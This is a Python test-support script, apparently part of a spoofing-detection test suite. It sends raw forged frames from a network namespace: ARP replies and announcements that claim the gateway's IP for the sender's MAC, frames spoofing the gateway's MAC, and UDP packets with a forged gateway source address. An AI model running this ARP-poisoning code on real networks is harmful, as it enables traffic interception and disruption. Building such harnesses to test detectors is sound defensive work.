"""Raw frames of somebody who lies, sent from the namespace it is started in.

    python tests/support/attacker.py reply,mac SECONDS VICTIM_MAC VICTIM_IP GATEWAY_MAC
        GATEWAY_IP

says to the victim, again and again, that the gateway's address is its own; then sends
one honest frame (`END`), so that whoever listens at the victim knows that this is all.
The standard library only: it runs as a program of its own.
"""

from __future__ import annotations

import socket
import struct
import sys
import time
from collections.abc import Callable
from pathlib import Path

PAUSE = 0.005  # seconds between two rounds
END = 0x88B5  # EtherType for local experiments (IEEE 802, 9.2.3)
LIE = b"isat-lie"  # in every IPv4 packet and frame of a lie
BROADCAST = b"\xff" * 6


class Lies:
    """Frames by kind; `own` is the liar's address."""

    def __init__(self, own: bytes, *told: str) -> None:
        self.own = own
        self.victim_mac, self.gateway_mac = octets(told[0]), octets(told[2])
        self.victim, self.gateway = socket.inet_aton(told[1]), socket.inet_aton(told[3])

    def reply(self) -> bytes:
        return self.arp(self.victim_mac, 2, self.victim_mac, self.victim)

    def request(self) -> bytes:
        return self.arp(BROADCAST, 1, bytes(6), self.victim)

    def announcement(self) -> bytes:
        return self.arp(BROADCAST, 1, bytes(6), self.gateway)

    def mac(self) -> bytes:
        """A frame that comes from the gateway's hardware address."""
        return (self.victim_mac + self.gateway_mac + b"\x88\xb6" + LIE).ljust(60, b"\0")

    def ip(self) -> bytes:
        """A UDP packet that comes from the gateway's address."""
        udp = struct.pack("!HHHH", 9, 9, 8 + len(LIE), 0) + LIE
        head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0)
        packet = head + self.gateway + self.victim
        total = sum(struct.unpack("!10H", packet))
        total = ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
        packet = packet[:10] + struct.pack("!H", total) + packet[12:]
        return self.victim_mac + self.own + b"\x08\x00" + packet + udp

    def arp(self, to: bytes, op: int, tha: bytes, tpa: bytes) -> bytes:
        head = to + self.own + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x800, 6, 4, op)
        return (head + self.own + self.gateway + tha + tpa).ljust(60, b"\0")


def octets(mac: str) -> bytes:
    return bytes.fromhex(mac.replace(":", ""))


def main(kinds: str, seconds: str, *told: str) -> None:
    own = octets(Path("/sys/class/net/eth0/address").read_text().strip())
    lies = Lies(own, *told)
    frames: list[Callable[[], bytes]] = [getattr(lies, k) for k in kinds.split(",")]
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind(("eth0", 0))
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        for frame in frames:
            out.send(frame())
        frames.append(frames.pop(0))  # a limit shall not fall on the same ones always
        time.sleep(PAUSE)
    out.send((lies.victim_mac + own + struct.pack("!H", END)).ljust(60, b"\0"))


if __name__ == "__main__":
    main(*sys.argv[1:])
